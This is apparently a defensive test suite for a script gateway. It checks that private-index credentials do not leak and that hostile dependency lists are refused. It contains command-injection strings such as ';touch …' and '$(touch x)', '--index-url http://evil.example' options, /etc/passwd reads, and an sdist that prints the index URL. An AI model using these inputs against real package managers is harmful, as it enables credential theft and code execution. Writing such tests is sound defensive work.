/** Packages as an attacker or a leak would have them: credentials, offline, hostile lists; real pip and Bun, a real gateway. */
import { afterAll, describe, expect, test } from 'bun:test'
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Installation } from '../../src/dependencies/model.ts'
import type { DependenciesView } from '../../src/dependencies/view-model.ts'
import { startOnDisk } from '../faults/disk-gateway.ts'
import { startApp } from '../harness/app.ts'
import { eventually, tempFolder } from '../harness/folder.ts'
import { startRegistry } from '../harness/registry.ts'
import { makeWheel, startIndex } from '../harness/wheels.ts'
import { sdistThat } from './attacks-of-packages.ts'

const [user, password] = ['anna smith', 'p@ss/w:rd%2+"x']
const token = 'npm_0123456789abcdef'
const wrong = 'not-the-password'
const wheels = ['kiwi', 'plum', 'fig', 'pear'].map((name) => makeWheel({ name, version: '1.0.0' }))
const registry = await startRegistry({ token })
const ownRegistry = await startRegistry({ login: `${user}:${password}` })
await registry.add({ name: 'lime', version: '1.0.0' })
await ownRegistry.add({ name: 'lime', version: '1.0.0' })
const stops: (() => unknown)[] = [registry.stop, ownRegistry.stop]
afterAll(async () => {
  for (const stop of stops) await stop()
})

const asking = (name: string) => `import json, sys
if __name__ == "__main__":
    if "--_sys_get_schema" in sys.argv:
        print("{}"); sys.exit()
    import ${name}
    print(json.dumps({"said": ${name}.__version__}))
`
const asked = (name: string) => `if (process.argv.includes('--_sys_get_schema')) console.log('{}')
else console.log(JSON.stringify({ said: require('${name}') }))
export default {}
`
const json = (method: string, body: unknown): RequestInit => ({
  ...{ method, headers: { 'content-type': 'application/json' } },
  body: JSON.stringify(body),
})
const post = { method: 'POST' }

/** As it may look where it must not be. */
const spellings = (text: string) =>
  [text, encodeURIComponent(text), JSON.stringify(text).slice(1, -1), btoa(text)].flatMap((one) => [one, btoa(one)])
const forbidden = [
  ...spellings(password),
  ...spellings(`${user}:${password}`),
  ...spellings(token),
  ...spellings(wrong),
]
const leaksIn = (text: string | Buffer) => forbidden.filter((one) => text.includes(one))

/** Everything in a folder: what it is called, and what is in it. */
function leaksBelow(folder: string): string[] {
  return readdirSync(folder, { withFileTypes: true, recursive: true }).flatMap((entry) => {
    const path = join(entry.parentPath, entry.name)
    return entry.isFile() ? leaksIn(readFileSync(path)).map((leak) => `${path}: ${leak}`) : []
  })
}

describe('the login of a private index', async () => {
  const [dataDir, scriptsDir] = [join(tempFolder(), 'data'), join(tempFolder(), 'scripts_repo')]
  const telling =
    'import base64, sys; url = os.environ["PIP_INDEX_URL"]; sys.exit(url + " " + base64.b64encode(url.encode()).decode())'
  const hosted = startIndex({ wheels: [...wheels, sdistThat('tell', telling)] })
  hosted.requireAuth(user, password)
  stops.push(hosted.stop)
  const gateway = await startOnDisk({
    ...{ dataDir, scriptsDir },
    scripts: {
      ...{ 'python/a.py': asking('kiwi'), 'python/requirements.txt': 'kiwi\n' },
      ...{ 'js/b.js': asked('lime'), 'js/package.json': '{"dependencies": {"lime": "^1.0.0"}}' },
      ...{ 'python/c.py': asking('tell'), 'python/c_requirements.txt': 'tell\n' },
    },
    env: {
      PIP_BUILDS_ALLOWED: 'tell',
      ...{ DEPS_AUTO_INSTALL: '0', LOG_LEVEL: 'trace', PIP_INDEX_URL: hosted.url, NPM_CONFIG_REGISTRY: registry.url },
      ...{ PIP_INDEX_SECRET: 'INDEX_LOGIN', NPM_REGISTRY_SECRET: 'NPM_TOKEN' },
    },
  })
  stops.push(gateway.kill)
  const { ask, put } = gateway
  const runOf = (slug: string) => ask(`/api/scripts/${slug}/run`, post)
  const install = (slug: string) => ask(`/api/scripts/${slug}/dependencies/install?wait=1`, post)

  test('which is no secret yet, is missed in words: by the run, the installation and the view', async () => {
    const words = 'The setting PIP_INDEX_SECRET names the secret "INDEX_LOGIN", which is not there'
    const { status, body } = await runOf('a')
    expect([status, body.error?.type]).toEqual([502, 'dependency'])
    expect(body.error?.message).toContain(words)
    expect((await ask('/api/scripts/a/dependencies')).body).toMatchObject({ state: 'failed' })
    const { items } = (await ask('/api/installations')).body as unknown as { items: Installation[] }
    expect(items.map(({ status, reason }) => [status, reason?.includes(words)])).toEqual([['failed', true]])
    expect(hosted.requests()).toEqual([])
  })

  test('which is wrong, is refused in words that name the setting', async () => {
    await put('/api/variables/NPM_TOKEN', { value: wrong, secret: true })
    await put('/api/variables/INDEX_LOGIN', { value: `${user}:${wrong}`, secret: true })
    const [python, js] = await Promise.all([install('a'), install('b')])
    expect([python.status, js.status]).toEqual([502, 502])
    expect(python.body.error?.message).toMatch(/wants a login, or another one: set PIP_INDEX_SECRET/)
    expect(js.body.error?.message).toMatch(/does not give lime out \(401\): its token is set by NPM_REGISTRY_SECRET/)
  }, 30_000)

  test('which is right, is used, and in no command line, file, log or answer', async () => {
    await put('/api/variables/NPM_TOKEN', { value: token, secret: true })
    await put('/api/variables/INDEX_LOGIN', { value: `${user}:${password}`, secret: true })
    const hold = hosted.hold('kiwi-1.0.0-py3-none-any.whl')
    const [python, js] = [install('a'), install('b')]
    await hold.asked
    const commands = commandLines()
    hold.release()
    expect((await Promise.all([python, js])).map(({ status }) => status)).toEqual([200, 200])
    expect(commands.filter((line) => line.includes('pip')).length).toBeGreaterThan(0)
    expect(commands.flatMap(leaksIn)).toEqual([])
    expect((await Promise.all([runOf('a'), runOf('b')])).map(({ body }) => body.data)).toEqual([
      { said: '1.0.0' },
      { said: 'lime@1.0.0' },
    ])

    // A build that is allowed can read it, and tells it: it is masked then.
    const told = await install('c')
    expect(told.status).toBe(502)
    expect(await (await fetch(`${gateway.url}/api/installations/6/logs`)).text()).toMatch(/anna%20smith:•+@.*•/)

    const { items } = (await ask('/api/installations')).body as unknown as { items: Installation[] }
    expect(items.length).toBe(6)
    const paths = [
      ...[
        '/api/settings',
        '/api/variables',
        '/api/installations',
        '/api/dependencies/cache/status',
        '/api/audit',
        '/settings',
        '/dependencies',
      ],
      ...['a', 'b', 'c'].flatMap((slug) => [
        ...['dependencies', 'environment', 'dependencies/export'].map((what) => `/api/scripts/${slug}/${what}`),
        `/scripts/${slug}`,
      ]),
      ...items.flatMap(({ id }) => [
        `/api/installations/${id}`,
        `/api/installations/${id}/logs`,
        `/dependencies/installations/${id}`,
      ]),
    ]
    const answers = await Promise.all(
      paths.map(async (path) => {
        const response = await fetch(gateway.url + path)
        return { path, status: response.status, text: await response.text() }
      }),
    )
    expect(answers.filter(({ status }) => status !== 200).map(({ path, status }) => `${status} ${path}`)).toEqual([])
    expect(answers.flatMap(({ path, text }) => leaksIn(text).map((leak) => `${path}: ${leak}`))).toEqual([])
    expect(leaksBelow(dataDir)).toEqual([])
    expect(leaksBelow(scriptsDir)).toEqual([])
  }, 30_000)
})

/** Of all processes, as anybody on this machine sees them. */
const commandLines = (): string[] =>
  readdirSync('/proc').flatMap((pid) => {
    try {
      return /^\d+$/.test(pid) ? readFileSync(`/proc/${pid}/cmdline`, 'utf8').replaceAll('\0', ' ') : []
    } catch {
      return [] // gone meanwhile
    }
  })

describe('a gateway whose sources have a login in their address, as the environment gave it', async () => {
  const hosted = startIndex({ wheels })
  hosted.requireAuth(user, password)
  stops.push(hosted.stop)
  const withLogin = (address: string) =>
    address.replace('//', `//${encodeURIComponent(user)}:${encodeURIComponent(password)}@`)
  const given = { pip_index_url: withLogin(hosted.url), npm_config_registry: withLogin(ownRegistry.url) }
  const shown = hosted.url.replace('//', '//••••••@')
  const wheelDir = tempFolder()
  writeFileSync(join(wheelDir, wheels[1]!.filename), wheels[1]!.bytes)
  const gateway = await startApp(
    {
      ...{ 'python/there.py': asking('kiwi'), 'python/there_requirements.txt': 'kiwi\n' },
      ...{ 'python/wheel.py': asking('plum'), 'python/wheel_requirements.txt': 'plum\n' },
      ...{ 'python/gone.py': asking('fig'), 'python/gone_requirements.txt': 'fig==1.0.0\n' },
      ...{ 'js/lime.js': asked('lime'), 'js/lime_package.json': '{"dependencies": {"lime": "^1.0.0"}}' },
      ...{ 'js/none.js': asked('cold'), 'js/none_package.json': '{"dependencies": {"cold": "^1.0.0"}}' },
    },
    given,
  )
  const run = async (slug: string) =>
    (await gateway.json<{ data: unknown; error?: { message: string } }>(`/api/scripts/${slug}/run`, post)).body
  const set = (changes: Record<string, unknown>) => gateway.json('/api/settings', json('PATCH', changes))

  test('uses it, and shows it to nobody', async () => {
    const ends = await Promise.all([run('there'), run('lime')])
    expect(ends.map(({ data }) => data)).toEqual([{ said: '1.0.0' }, { said: 'lime@1.0.0' }])

    const shownNow = async () =>
      (await gateway.json<{ items: { name: string; value: unknown }[] }>('/api/settings')).body.items.find(
        ({ name }) => name === 'pip_index_url',
      )?.value
    expect(await shownNow()).toBe(shown)
    const page = await (await gateway.fetch('/settings')).text()
    expect(page).toContain(`value="${shown}"`)
    const back = await gateway.json('/api/settings', json('PUT', { pip_index_url: shown, timeout_min: 3 }))
    const form = await gateway.fetch('/settings', {
      ...{ method: 'POST', redirect: 'manual', body: new URLSearchParams({ pip_index_url: shown, timeout_min: '4' }) },
    })
    expect([back.status, form.status, gateway.app.setting('pip_index_url')]).toEqual([200, 303, given.pip_index_url])

    const other = `https://${wrong}@elsewhere.example/`
    const refused = await gateway.json<{ error: { message: string } }>(
      '/api/settings',
      json('PUT', { pip_index_url: other, npm_config_registry: other }),
    )
    const refusedForm = await gateway.fetch('/settings', {
      method: 'POST',
      body: new URLSearchParams({ pip_index_url: other }),
    })
    expect([refused.status, refusedForm.status]).toEqual([422, 422])
    expect(refused.body.error.message).toMatch(/name into PIP_INDEX_SECRET.*name into NPM_REGISTRY_SECRET/)
    const audit = await (await gateway.fetch('/api/audit')).text()
    expect(audit).toContain('pip_index_url')
    const texts = [page, JSON.stringify(refused.body), await refusedForm.text(), audit, JSON.stringify(back.body)]
    expect(texts.flatMap(leaksIn)).toEqual([])
    expect(leaksBelow(gateway.dataDir)).toEqual([])
    expect(leaksBelow(gateway.scriptsDir)).toEqual([])
  }, 30_000)

  test('uses offline what is there; wheels come from their folder, what is missing is named, and nobody is asked', async () => {
    expect((await run('there')).data).toEqual({ said: '1.0.0' })
    await set({ deps_offline: true, wheel_dir: wheelDir })
    const before = [hosted.requests().length, ownRegistry.requests.length]
    expect((await run('there')).data).toEqual({ said: '1.0.0' })
    expect((await run('wheel')).data).toEqual({ said: '1.0.0' })
    const gone = await run('gone')
    const none = await run('none')
    expect(gone.error?.message).toMatch(
      /No wheel for fig==1\.0\.0 is in WHEEL_DIR .* or the cache, and the gateway is offline/,
    )
    expect(none.error?.message).toMatch(
      /cold is not in the cache, and nothing is fetched while the setting DEPS_OFFLINE is on/,
    )
    expect([hosted.requests().length, ownRegistry.requests.length]).toEqual(before)
  }, 30_000)

  test('a folder of wheels that cannot be used is told when it is set, or when it is looked into', async () => {
    expect((await set({ wheel_dir: 'wheels' })).body).toMatchObject({
      error: { message: expect.stringContaining('"wheel_dir" must be an absolute path') },
    })
    for (const [path, words] of [
      [join(wheelDir, 'nowhere'), 'which is not there'],
      [join(gateway.dataDir, 'logs'), 'which is in DATA_DIR'],
    ]) {
      await set({ wheel_dir: path })
      const { body } = await gateway.json('/api/scripts/gone/dependencies/install?wait=1', post)
      expect(JSON.stringify(body)).toContain(words!)
    }
  })
})

const body = 'if __name__ == "__main__":\n    print(1)\n'
const inline = (...lines: string[]) =>
  ['# /// script', `# dependencies = [${lines.map((line) => JSON.stringify(line)).join(', ')}]`, '# ///', body].join(
    '\n',
  )

describe('a hostile list', async () => {
  const [idle, idleRegistry] = [startIndex({ wheels }), await startRegistry()]
  stops.push(idle.stop, idleRegistry.stop)
  const canary = join(tempFolder(), 'canary')
  const home = '$' + '{HOME}'
  const options: [string, string][] = [
    ...['-r /etc/passwd', '-r ../../../../etc/passwd', '-r http://127.0.0.1:1/x.txt', '-r ~/x.txt'],
    ...['-c constraints.txt', '--index-url http://evil.example/simple', '-i http://evil.example/simple'],
    ...[
      '--extra-index-url=http://evil.example/simple',
      '--find-links /',
      '-f /tmp',
      '-e .',
      '--editable=git+https://x/y',
    ],
    ...['--trusted-host evil.example', '--no-binary :all:', '--pre', '--global-option=build', '--proxy http://e:1'],
    ...['--cert /etc/passwd', '--report /tmp/x', '--target /', '--python /bin/sh'],
  ].map((text) => [text, /^-r/.test(text) ? 'is not read' : ''])
  const addresses: [string, string][] = [
    ...[
      'git+ssh://git@evil.example/x.git',
      'git+https://evil.example/x.git',
      'file:///etc/passwd',
      './local',
      '../up',
      '/abs/x.whl',
    ],
    ...[
      'kiwi @ file:///etc/passwd',
      'kiwi @ http://127.0.0.1:1/kiwi-1.0-py3-none-any.whl',
      'kiwi @ git+ssh://git@e/x.git',
    ],
    ...[`kiwi @ ${home}/x.whl`, 'http://127.0.0.1:1/x.whl', 'kiwi.whl', 'kiwi@https://evil.example/k.whl#egg=x'],
  ].map((text) => [text, ''])
  const others: [string, string][] = [
    ...[home, `kiwi==${home}`, 'kiwi --hash=sha256:12', 'kiwi --hash=md5:aaaa', 'kiwi --global-option=x'],
    ...[
      'kiwi --config-settings=a=b',
      'kiwi --install-option=x',
      `;touch ${canary}`,
      `kiwi;touch ${canary}`,
      `$(touch ${canary})`,
    ],
    ...[
      `kiwi | touch ${canary}`,
      `\`touch ${canary}\``,
      'kiwi; os_name == "x" or',
      'kiwi; __import__("os")',
      'kiwi; evil == "1"',
    ],
    ...[
      'kiwi>=1,,<2',
      'kiwi=>1',
      'kiwi[',
      'kiwi[--x]',
      '-',
      '--',
      'ki\0wi',
      'kiwi\u2028plum',
      'k\u0456wi',
      'x'.repeat(500),
    ],
  ].map((text) => [text, ''])
  const rows = [...options, ...addresses, ...others]
  const place = (at: number) => `python/l${at}`
  const gateway = await startApp(
    Object.fromEntries([
      ...rows.flatMap(([text], at) => [
        [`${place(at)}/l${at}.py`, body],
        [`${place(at)}/.l${at}._map.json`, '{}'],
        [`${place(at)}/requirements.txt`, `plum\n${text}\n`],
        [`python/i/i${at}.py`, inline('plum', text)],
        [`python/i/.i${at}._map.json`, '{}'],
      ]),
      ...['api.py', 'odd.py'].flatMap((name) => [
        [`python/${name.slice(0, 3)}/${name}`, body],
        [`python/${name.slice(0, 3)}/.${name.slice(0, 3)}._map.json`, '{}'],
      ]),
      ['js/j/j.js', 'console.log(1)\nexport default {}\n'],
      ['js/j/.j._map.json', '{}'],
    ]),
    { pip_index_url: idle.url, npm_config_registry: idleRegistry.url, deps_auto_install: true },
  )
  const view = async (slug: string) => (await gateway.json<DependenciesView>(`/api/scripts/${slug}/dependencies`)).body
  const countOf = async () => (await gateway.json<{ total: number }>('/api/installations')).body.total
  /** What became of it: nothing, if it is well. */
  async function stateOf(slug: string) {
    const [{ state, problems }, { status }] = [await view(slug), await gateway.fetch(`/api/scripts/${slug}/run`, post)]
    return { state, told: problems.length > 0 && problems.every(({ message }) => message.length > 10), status }
  }
  const refused = { state: 'refused' as const, told: true, status: 502 }
  const nothing = async () => {
    expect([existsSync(canary), await countOf()]).toEqual([false, 0])
    expect([...idle.requests(), ...idleRegistry.requests]).toEqual([])
  }
  test('is refused whole, whatever is in its lines, and nothing is fetched or started', async () => {
    const ends = await Promise.all(rows.map(async ([text], at) => ({ text, ...(await stateOf(`l${at}`)) })))
    expect(ends.filter((one) => !Bun.deepEquals({ ...one, text: '' }, { ...refused, text: '' }))).toEqual([])
    const words = await Promise.all(
      rows.map(async ([, words], at) => [words, JSON.stringify((await view(`l${at}`)).problems)]),
    )
    expect(words.filter(([wanted, said]) => !said!.includes(wanted!))).toEqual([])
    await nothing()
  }, 30_000)

  test('is refused at the top of a script as well', async () => {
    const ends = await Promise.all(rows.map(async ([text], at) => ({ text, ...(await stateOf(`i${at}`)) })))
    expect(ends.filter((one) => !Bun.deepEquals({ ...one, text: '' }, { ...refused, text: '' }))).toEqual([])
    await nothing()
  }, 30_000)

  test('is refused by the API, by name and by version', async () => {
    const ask = (method: string, body: unknown) =>
      gateway.fetch('/api/scripts/api/dependencies', json(method, body)).then(({ status }) => status)
    const ends = await Promise.all(
      rows.map(async ([text]) => ({
        text,
        ends: [
          await ask('POST', { name: text }),
          await ask('POST', { name: 'kiwi', version: text }),
          await ask('PUT', [{ name: text }]),
        ],
      })),
    )
    expect(ends.filter(({ ends: [a, b, c] }) => a !== 422 || b !== 422 || c !== 422)).toEqual([])
    expect(readdirSync(join(gateway.scriptsDir, 'python/api')).sort()).toEqual(['.api._map.json', 'api.py'])
    await nothing()
  }, 30_000)

  test.each<[string, (path: string) => void, RegExp]>([
    ['of 10 MB', (path) => writeFileSync(path, 'plum\n'.repeat(2_000_000)), /larger than 256 KiB/],
    ['with NUL in it', (path) => writeFileSync(path, 'plum\n\0\n'), /not UTF-8 text/],
    ['that is no text', (path) => writeFileSync(path, new Uint8Array([0xff, 0xfe, 0x80])), /not UTF-8 text/],
    ['that is a pipe', (path) => execFileSync('mkfifo', [path]), /not a regular file/],
    ['that is a link to another file', (path) => symlinkSync('/etc/passwd', path), /leads out of the scripts folder/],
    ['that is a link to a device', (path) => symlinkSync('/dev/zero', path), /leads out of the scripts folder/],
    ['that is a folder', (path) => mkdirSync(path), /not a regular file/],
  ])('%s is refused, and holds nobody up', async (_, make, words) => {
    const path = join(gateway.scriptsDir, 'python/odd/requirements.txt')
    execFileSync('rm', ['-rf', path])
    make(path)
    expect(await stateOf('odd')).toEqual(refused)
    const { problems } = await view('odd')
    expect(problems.map(({ message }) => message).join()).toMatch(words)
    expect(JSON.stringify(problems)).not.toContain('root:')
    await nothing()
  })

  const npm = [
    ...[
      'file:/etc',
      'link:../x',
      'git+ssh://git@e.example/x.git',
      'github:a/b',
      'a/b',
      'workspace:*',
      'http://127.0.0.1:1/x.tgz',
    ],
    ...[
      'https://e.example/x.tgz',
      'npm:@x/y@file:z',
      'catalog:',
      'portal:../x',
      'patch:x@1',
      '$(touch x)',
      '>=1 ; rm',
      '--registry=http://e',
    ],
  ]
  test.each(npm)('of npm packages is refused with %s, from the file and by the API', async (version) => {
    const path = join(gateway.scriptsDir, 'js/j/package.json')
    writeFileSync(path, JSON.stringify({ dependencies: { lime: version } }))
    expect(await stateOf('j')).toEqual(refused)
    execFileSync('rm', [path])
    const answer = await gateway.fetch('/api/scripts/j/dependencies', json('POST', { name: 'lime', version }))
    expect([answer.status, existsSync(path)]).toEqual([422, false])
    await nothing()
  })

  test.each([
    '../x',
    '/etc',
    'a b',
    '@x',
    '.hidden',
    '-g',
    '__proto__',
    'x'.repeat(300),
    'LIME\0',
    'node_modules',
    '@a/../b',
  ])('of npm packages is refused with the name %j', async (name) => {
    const path = join(gateway.scriptsDir, 'js/j/package.json')
    writeFileSync(path, `{"dependencies": {${JSON.stringify(name)}: "1"}}`)
    expect(await stateOf('j')).toEqual(refused)
    execFileSync('rm', [path])
    expect((await gateway.fetch('/api/scripts/j/dependencies', json('POST', { name }))).status).toBe(422)
    await nothing()
  })
})

test('what else stands in a package.json, and beside it, does not count', async () => {
  const [own, evil] = [await startRegistry(), await startRegistry()]
  stops.push(own.stop, evil.stop)
  const canary = join(tempFolder(), 'canary')
  const scripts = { preinstall: `touch ${canary}`, postinstall: `touch ${canary}`, prepare: `touch ${canary}` }
  await own.add({ name: 'lime', version: '1.0.0', fields: { scripts } })
  await evil.add({ name: 'lime', version: '9.0.0', fields: { scripts } })
  const hostile = { scripts, trustedDependencies: ['lime'] }
  const bunfig = `[install]\nregistry = "${evil.url}"\n`
  const gateway = await startApp(
    {
      'js/own/a.js': asked('lime'),
      'js/own/package.json': JSON.stringify({ ...hostile, dependencies: { lime: '>=1' } }),
      ...{
        'js/own/.npmrc': `registry=${evil.url}\n`,
        'js/own/bunfig.toml': bunfig,
        'js/.npmrc': `registry=${evil.url}\n`,
      },
    },
    { npm_config_registry: own.url },
  )
  const slug = gateway.app.scripts().find(({ filename }) => filename === 'own/a.js')!.slug
  const { body } = await gateway.json(`/api/scripts/${slug}/run`, post)
  expect(body).toMatchObject({ data: { said: 'lime@1.0.0' } })
  expect([existsSync(canary), evil.requests]).toEqual([false, []])
}, 30_000)

test('a pipe or a link in the place of a lock is refused, holds nobody up, and is not written through', async () => {
  const own = await startRegistry()
  stops.push(own.stop)
  await own.add({ name: 'lime', version: '1.0.0' })
  const list = '{"dependencies": {"lime": "1.0.0"}}'
  const gateway = await startApp(
    { 'js/a.js': asked('lime'), 'js/a_package.json': list },
    { npm_config_registry: own.url, deps_auto_install: true, scan_interval_sec: 1 },
  )
  const run = (slug: string) => gateway.json<{ error?: { message: string } }>(`/api/scripts/${slug}/run`, post)
  const first = await run('a') // what the others need is there: their locks alone are missing, and would be written
  const target = join(tempFolder(), 'target')
  writeFileSync(target, 'mine')
  execFileSync('mkfifo', [join(gateway.scriptsDir, 'js/b_bun.lock')])
  symlinkSync(target, join(gateway.scriptsDir, 'js/c_bun.lock'))
  for (const name of ['b', 'c', 'd']) writeFileSync(join(gateway.scriptsDir, `js/${name}_package.json`), list)
  await Promise.all(['b', 'c', 'd'].map((name) => gateway.drop(`js/${name}.js`, asked('lime'))))
  await eventually(
    'the lock of the last is written',
    () => existsSync(join(gateway.scriptsDir, 'js/d_bun.lock')),
    30_000,
  )
  const [a, b, c] = await Promise.all([run('a'), run('b'), run('c')])
  expect([first.status, a.status, b.status, c.status]).toEqual([200, 200, 502, 502])
  expect([b, c].map(({ body }) => body.error?.message)).toEqual([
    expect.stringMatching(/is not a regular file: remove it/),
    expect.stringMatching(/is not a regular file: remove it/),
  ])
  expect(readFileSync(target, 'utf8')).toBe('mine')

  // One that comes while its packages are installed; and one in the place of a list that is to be changed.
  await own.add({ name: 'plum', version: '1.0.0' })
  own.fail('plum', 'slow', 'tarball')
  writeFileSync(join(gateway.scriptsDir, 'js/e_package.json'), '{"dependencies": {"plum": "1.0.0"}}')
  await gateway.drop('js/e.js', asked('plum'))
  await own.asked('GET /plum/-/plum-1.0.0.tgz')
  execFileSync('mkfifo', [join(gateway.scriptsDir, 'js/e_bun.lock'), join(gateway.scriptsDir, 'js/f_package.json')])
  own.release()
  const ended = async () =>
    (await gateway.json<{ total: number }>('/api/installations?status=running')).body.total === 0
  await eventually('the installation has ended', ended)
  await gateway.drop('js/f.js', asked('plum'))
  const headers = { 'content-type': 'application/json' }
  const added = await gateway.json('/api/scripts/f/dependencies', {
    ...post,
    headers,
    body: '{"name": "plum", "version": ""}',
  })
  expect(added.status).toBe(409)
}, 60_000)
